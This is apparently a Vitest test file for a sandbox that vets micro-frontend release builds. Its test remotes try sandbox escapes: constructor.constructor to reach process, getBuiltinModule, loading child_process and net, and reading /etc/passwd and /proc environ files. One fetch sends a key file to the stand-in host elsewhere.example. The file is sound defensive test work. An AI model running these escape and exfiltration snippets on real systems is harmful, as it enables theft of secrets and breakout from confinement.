import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { createServer } from 'node:net';
import { availableParallelism, homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import * as v from 'valibot';
import { afterAll, expect, test } from 'vitest';
import { confinement } from '../confined-process.ts';
import { BucketUnreachable } from '../fetch-release.ts';
import type { Release } from '../registry.ts';
import type { SiteDefinition } from '../site-definition.ts';
import { brokenServers } from '../testing/broken-servers.ts';
import { emptyRelease } from '../testing/empty-release.ts';
import { findChromium } from './chromium.ts';
import { openProgram } from './confined-program.ts';
import { type Case, judge, type Verdict } from './judge.ts';
import { programCode } from './program-code.ts';

const isLong = process.env.TESTS === 'long';
const folder = realpathSync(mkdtempSync(join(tmpdir(), 'rowhouse-hostile-')));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

// A release key beside the builds under proof, as on a real machine.
const key = join(folder, 'release-key.pem');
writeFileSync(key, 'the key itself');

const site: SiteDefinition = {
  root: folder,
  apps: ['shell', 'clock'],
  languages: ['en'],
  shared: { version: '1.0.0', modules: [], libraries: {} },
  layers: [],
  proof: {
    apiPrefix: '/api',
    samples: {},
  },
};

const release: Release = {
  ...emptyRelease,
  budget: { entry: 1, modules: { 'pages/clock': 1, 'messages/en': 1 } },
  modules: { 'pages/clock': { js: [], css: [] }, 'messages/en': { js: [], css: [] } },
};
const set = {
  id: 'set',
  apps: { shell: { version: '1', release }, clock: { version: '1', release } },
};

// A shell that requests the HTML of its one page from its one remote.
const shell = `
exports.createRenderer = ({ requireContainer }) => ({
  contract: {
    routes: { clock: { owner: 'clock', file: 'clock', paths: { en: 'clock/' } } },
    fragments: {},
    endpoints: {},
  },
  load: async () => ({ messages: {} }),
  render: async () => {
    const state = JSON.stringify({ result: { page: 'clock', failure: null, fragments: {} } });
    const failures = [];
    const html = await requireContainer('clock').html().catch((error) => {
      failures.push({ failure: 'render', what: 'clock', why: String(error) });
    });
    const body = '<html lang="en"><head><title>Clock</title></head><body><main><h1>Clock</h1></main>' + html + '<script type="application/json" id="state">' + state + '</script></body></html>';
    return { status: 200, headers: [], body, failures };
  },
});
`;
const wakes = `<script>document.documentElement.setAttribute('data-hydrated', '')</script>`;

// The shell, and a remote whose server code is the given function body, which returns the HTML; `loads` runs when it is loaded.
const buildsOf = (html: string, loads = ''): Record<'shell' | 'clock', string> => {
  const builds = mkdtempSync(join(folder, 'builds-'));
  const folders = { shell: join(builds, 'shell'), clock: join(builds, 'mf-clock') };
  for (const path of Object.values(folders)) mkdirSync(join(path, 'node'), { recursive: true });
  writeFileSync(join(folders.shell, 'node/main.js'), shell);
  mkdirSync(join(folders.clock, 'web'));
  writeFileSync(join(folders.clock, 'web/broken.css'), '.a {');
  writeFileSync(join(folders.clock, 'node/remote-entry.js'), `${loads}exports.html = async () => {${html}};`);
  return folders;
};

/** Judges a remote whose server code is the given function body, which returns the HTML. */
const judged = async (html: string, more: Partial<Case> = {}): Promise<Verdict> =>
  judge({ site, set, folders: buildsOf(html), proved: ['clock'], shares: 1, chromium: null, ...more });

const installed = findChromium(process.env);

// Names that a text search does not find.
const names = `const it = globalThis['pro' + 'cess'], take = require, key = ${JSON.stringify(key)};`;

test.concurrent('a correct remote passes the proof', async () => {
  const verdict = { faults: [], rendered: 3, hydrated: 1, inBrowser: false };
  expect(await judged(`return ${JSON.stringify(wakes)}`)).toEqual(verdict);
});

test.concurrent('a Chromium that does not start refuses no release', async () => {
  const html = `return ${JSON.stringify(wakes)}`;
  expect(await judged(html, { chromium: '/bin/true' })).toMatchObject({ faults: [], inBrowser: false });
});

test.skipIf(installed === null)('a Chromium shows the page of a remote', async () => {
  const wide = `return ${JSON.stringify(`${wakes}<script>document.querySelector('main').style.width = '2000px'</script>`)}`;
  const { faults, inBrowser } = await judged(wide, { chromium: installed });
  expect(inBrowser).toBe(true);
  expect(faults).toEqual(
    [375, 1440].map(
      (width) => `the page 'clock' in en is wider than the window, by main, in a window of ${width} pixels`,
    ),
  );
});

test.concurrent('a remote is not refused when the live release cannot be fetched to compare a slow page with', async () => {
  // Uses processor time rather than wall-clock time, since other processes may take most of the latter.
  const slow = `let count = 0; while (count < 500_000_000) count += 1; return ${JSON.stringify(wakes)}`;
  const fetchLive = async () => {
    throw new BucketUnreachable('The bucket could not be reached: gone');
  };
  await expect(judged(slow, { fetchLive })).rejects.toThrow(BucketUnreachable);
});

// Half a second of processor time, or a few seconds.
const computes = 'let count = 0; while (count < 1_200_000_000) count += 1;';

test.concurrent('a remote that ends its program when a slow page is measured is refused with the name of the page', async () => {
  const html = `shown += 1; if (shown > 3) return 'x'.repeat(17 * 1024 * 1024); ${computes} return ${JSON.stringify(wakes)}`;
  expect((await judged(html, { folders: buildsOf(html, 'let shown = 0;') })).faults).toEqual([
    expect.stringMatching(
      /^the proof stopped at the page 'clock' in en, rendered again since it took \d+ ms of processor time: it sent more than 16 MB at once$/,
    ),
  ]);
});

test.concurrent('a live release that ends when a slow page is compared with it does not refuse its mend', async () => {
  const html = `return ${JSON.stringify(wakes)}`;
  const ends = "return 'x'.repeat(17 * 1024 * 1024)";
  const fetchLive = async () => ({ set: { ...set, id: 'live' }, folders: buildsOf(ends) });
  // Too slow to be accepted without a comparison, or fast enough.
  const { faults } = await judged(html, { folders: buildsOf(html, computes), fetchLive });
  expect(faults.filter((fault) => fault.includes('stopped'))).toEqual([]);
});

test.concurrent('a remote that writes to an object which all apps share is refused with the name of the page', async () => {
  const { faults } = await judged(`Array.prototype.clock = 1; return ${JSON.stringify(wakes)}`);
  expect(faults).toEqual([
    "the page 'clock' in en, with usual data: writes Array.prototype.clock, which all apps share",
  ]);
});

test.runIf(isLong).concurrent.each([
  [
    'is refused if the live release loads at once',
    '',
    [
      expect.stringMatching(
        /^the page 'clock' in en takes \d+ ms of processor time until its code is loaded, \d+ ms in the live release$/,
      ),
    ],
  ],
  ['is not refused if the live release loads as slowly', computes, []],
])('a remote whose module works for long while it is loaded %s', async (_, loads, faults) => {
  const html = `return ${JSON.stringify(wakes)}`;
  const fetchLive = async () => ({ set: { ...set, id: 'live' }, folders: buildsOf(html, loads) });
  expect((await judged(html, { folders: buildsOf(html, computes), fetchLive })).faults).toEqual(faults);
});

test.concurrent('a remote with an invalid stylesheet is refused for that', async () => {
  const files = { 'web/broken.css': { integrity: '', bytes: 1 } };
  const broken = { ...set, apps: { ...set.apps, clock: { version: '1', release: { ...release, files } } } };
  const { faults } = await judged('', { set: broken });
  expect(faults).toEqual([expect.stringMatching(/^its styles cannot be read: .*Unclosed block/)]);
});

test.concurrent('a remote on the server cannot reach Node modules, files, programs, connections or a message channel, and each attempt is reported', async () => {
  const attempts = {
    builtin: "it['getBuiltin' + 'Module']('node:fs').readFileSync(key, 'utf8')",
    files: "take('node:fs').readFileSync(key, 'utf8')",
    file: "await new Promise((resolve) => take('fs').readFile(key, 'utf8', (error, text) => resolve(text ?? error.code)))",
    beside: 'take(key)',
    network: "take('node:net')",
    imported: "await import('node:' + 'http')",
    data: "await import(['data:text/javascript', '1'].join())",
    loader: "module.constructor._load('child_process')",
    made: "module.constructor.createRequire(key)('worker_threads')",
    written: "Function('return process')().binding('fs')",
    thread: "take('vm').runInThisContext('process').dlopen({}, key)",
    process: "take('process').env",
    environment: 'JSON.stringify(it.env)',
    verdict: "it.send({ kind: 'done', faults: [], rendered: 1, hydrated: 1 })",
    end: 'it.exit(0)',
    kill: 'it.kill(1)',
    fetched: "await fetch('https://elsewhere.example/?' + key)",
    local: "await fetch('http://127.0.0.1:1/')",
    socket: "new WebSocket('ws://127.0.0.1:1/')",
  };
  const tried = Object.entries(attempts).map(
    ([name, work]) =>
      `try { got['${name}'] = String(${work}); } catch (error) { got['${name}'] = 'no: ' + error.message; }`,
  );
  const { faults } = await judged(`${names} const got = {}; ${tried.join('\n')} throw new Error(JSON.stringify(got));`);
  const place = "the page 'clock' in en, whatever the data: ";
  const told = faults.find((fault) => fault.startsWith(`${place}failed`)) ?? '';
  expect(told).not.toContain('the key itself');
  const got: unknown = JSON.parse(told.slice(told.indexOf('{')));
  expect(got).toEqual({
    ...Object.fromEntries(Object.keys(attempts).map((name) => [name, expect.stringMatching(/^no: /)])),
    file: expect.stringMatching(/^(ENOENT|ERR_ACCESS_DENIED)$/),
    environment: '{"NODE_ENV":"production"}',
  });
  for (const fault of [
    ...['getBuiltinModule', 'binding', 'dlopen', 'send', 'exit', 'kill'].map((name) => `process.${name}`),
    ...['net', 'http', 'child_process', 'worker_threads', 'process'].map((name) => `'${name}' of Node`),
  ])
    expect(faults).toContain(`${place}uses ${fault}, which is not in the contract`);
  expect(faults).toContain(`${place}requests https://elsewhere.example/?${key}, which is not in the contract`);
});

// A program that has all of Node.
const free = `
import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { connect, Socket } from 'node:net';
const tried = (work) => { try { work(); return 'done'; } catch (error) { return error.code; } };
const reach = (...address) => new Promise((resolve) =>
  connect(...address).on('connect', () => resolve('connected')).on('error', ({ code }) => resolve(code)));
const judge = new Socket({ fd: 3 });
judge.once('data', async (asked) => {
  const { id, input: { reads, writes, port, socket } } = JSON.parse(asked);
  const output = {
    ...Object.fromEntries(reads.map((path) => [path, tried(() => statSync(path).isDirectory() ? readdirSync(path) : readFileSync(path))])),
    written: tried(() => writeFileSync(writes + '/written', '')),
    program: tried(() => spawnSync('true')),
    environment: Object.keys(process.env).sort().join(),
    library: readFileSync(${JSON.stringify(createRequire(import.meta.url).resolve('happy-dom'))}, 'utf8') && 'read',
    network: await reach(port, '127.0.0.1'),
    local: await reach(socket),
  };
  judge.write(JSON.stringify({ kind: 'answer', id, output }) + '\\n');
});
`;

const leaving = "const it = this.constructor.constructor('return process')();";

test.concurrent('a script that escapes its document finds nothing to use there', async () => {
  const script = `<script>${leaving} it['getBuiltin' + 'Module']('node:fs');</script>`;
  const { faults } = await judged(`return ${JSON.stringify(script + wakes)}`);
  expect(faults).toContainEqual(
    expect.stringContaining('it uses process.getBuiltinModule, which is not in the contract'),
  );
});

// Two of these cases wait for a timeout of ten seconds each; `confined-program.test.ts` fills a memory, too.
const servers = brokenServers.filter(({ says }) => isLong || !/no answer|memory/.test(says));

test.concurrent.each(servers)(
  'a remote that $does is ended, and refused with the name of the page that did it',
  async ({ html, says }) => {
    expect((await judged(html)).faults).toEqual([says]);
  },
  // A program that hangs gets ten seconds of processor time, however busy the processor is.
  300_000,
);

test.concurrent('a proof program that has escaped its realm can read builds and libraries, and nothing else', async () => {
  const server = createServer((socket) => socket.end());
  const local = createServer((socket) => socket.end());
  await Promise.all([
    once(server.listen(0, '127.0.0.1'), 'listening'),
    once(local.listen(join(folder, 'socket')), 'listening'),
  ]);
  const program = join(folder, 'free.mjs');
  const workspace = join(import.meta.dirname, '../../..');
  writeFileSync(program, free);
  const address = server.address();
  const { ask, end } = openProgram({
    confines: { program, reads: programCode, heap: 256 },
    answer: async () => null,
    patience: 20_000,
    most: 20_000,
  });
  const got = await ask(
    'it',
    {
      reads: [
        key,
        workspace,
        join(workspace, 'package.json'),
        join(workspace, '.data/release-key.pem'),
        '/proc/self/environ',
        `/proc/${process.pid}/environ`,
        '/etc/passwd',
        homedir(),
      ],
      writes: folder,
      port: typeof address === 'object' ? address?.port : 0,
      socket: join(folder, 'socket'),
    },
    v.record(v.string(), v.string()),
  );
  end('it is over');
  server.close();
  local.close();
  const { environment, library, network, local: unix, ...rest } = got;
  expect(environment).toBe('NODE_ENV,PATH,TZ');
  expect(library).toBe('read');
  for (const [what, outcome] of Object.entries(rest)) expect([what, outcome]).toEqual([what, 'ERR_ACCESS_DENIED']);
  if (confinement() === 'namespaces') expect([network, unix]).toEqual(['ENETUNREACH', 'ENOENT']);
});

// On request, computes for 400 ms of processor time and reports how long that took.
const computing = `
import { Socket } from 'node:net';
const judge = new Socket({ fd: 3 });
judge.on('data', (asked) => {
  const { id, what } = JSON.parse(asked);
  const began = performance.now();
  const computed = () => Object.values(process.threadCpuUsage()).reduce((sum, part) => sum + part);
  const end = computed() + (what === 'compute' ? 400_000 : 0);
  while (computed() < end);
  judge.write(JSON.stringify({ kind: 'answer', id, output: performance.now() - began }) + '\\n');
});
`;

test.runIf(isLong && existsSync('/proc/self/schedstat'))(
  'a program gets its full time limit, however many others use the processor',
  async () => {
    const program = join(folder, 'computing.mjs');
    writeFileSync(program, computing);
    const others = Array.from({ length: availableParallelism() * 6 }, () =>
      spawn(process.execPath, ['-e', 'for (;;);'], { stdio: 'ignore' }),
    );
    try {
      const { ask, end } = openProgram({
        confines: { program, reads: [], heap: 256 },
        answer: async () => null,
        patience: 60_000,
        most: 120_000,
      });
      await ask('begin', {}, v.number());
      expect(await ask('compute', {}, v.number(), 1000)).toBeGreaterThan(1000);
      end('it is over');
    } finally {
      for (const other of others) other.kill('SIGKILL');
    }
  },
  120_000,
);
